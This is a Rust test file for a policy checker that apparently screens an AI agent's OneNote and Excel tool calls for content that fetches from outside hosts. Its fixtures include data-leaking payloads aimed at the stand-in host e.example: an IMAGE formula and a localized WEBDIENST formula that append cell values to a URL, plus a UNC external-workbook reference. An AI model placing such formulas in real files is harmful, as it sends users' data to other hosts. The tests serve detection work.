use super::*;
use bouncer_guest::testing::{call, json};

fn judge(tool: &str, body: Value) -> Judgement {
    Graph::evaluate(&call(tool, json!({"body": body})), &[], &()).unwrap()
}

#[test]
fn pictures_of_a_page_are_fetched() {
    let found = |tool: &str, body: Value| {
        let judgement = judge(tool, body);
        judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect::<Vec<_>>()
    };
    for html in [
        "<html><body><img data-render-src=\"https://e.example/a\"/></body></html>",
        "<html><body><object data='https://e.example/a'/></body></html>",
    ] {
        assert_eq!(found("create-onenote-page", json!(html)), ["https://e.example/a /body"], "{html}");
        assert_eq!(
            found("create-onenote-section-page", json!({"content": html})),
            ["https://e.example/a /body/content"]
        );
        assert_eq!(
            found(
                "update-sharepoint-site-onenote-page-content",
                json!([{"action": "append", "content": html}])
            ),
            ["https://e.example/a /body/0/content"]
        );
    }
    let plain = "<html><head><title>t</title><meta name='created' content='2024'></head>\
        <body><a href='https://x.io'>x</a></body></html>";
    assert_eq!(judge("create-onenote-page", json!(plain)), Judgement::new());
}

#[test]
fn a_formula_that_fetches_is_asked_about() {
    for tool in ["add-excel-table-rows", "update-excel-range", "update-excel-table-row"] {
        let judgement = judge(tool, json!({"values": [["=IMAGE(\"https://e.example/\"&A1)"]]}));
        assert_eq!(judgement.findings()[0].code(), "formula_fetches", "{tool}");
        assert_eq!(judgement.destinations()[0].0, "https://e.example/");
        assert_eq!(judge(tool, json!({"values": [["=SUM(A1)", "https://x.io", -1]]})), Judgement::new());
    }
}

#[test]
fn a_formula_in_the_users_language_or_of_another_workbook_is_asked_about() {
    for (body, at) in [
        (json!({"formulasLocal": [["=WEBDIENST(\"https://e.example/?\"&B1)"]]}), "/body/formulasLocal/0/0"),
        (json!({"formulas": [["='\\\\e.example\\s\\[x.xlsx]S'!A1"]]}), "/body/formulas/0/0"),
    ] {
        let judgement = judge("update-excel-range", body);
        let found: Vec<_> = judgement.findings().iter().map(|one| (one.code(), one.argument())).collect();
        assert_eq!(found, [("formula_fetches", at)]);
    }
    let plain = json!({"formulas": [["=SUM(Sales[Amount])"]], "formulasLocal": [["Umsatz (netto)"]]});
    assert_eq!(judge("update-excel-range", plain), Judgement::new());
}
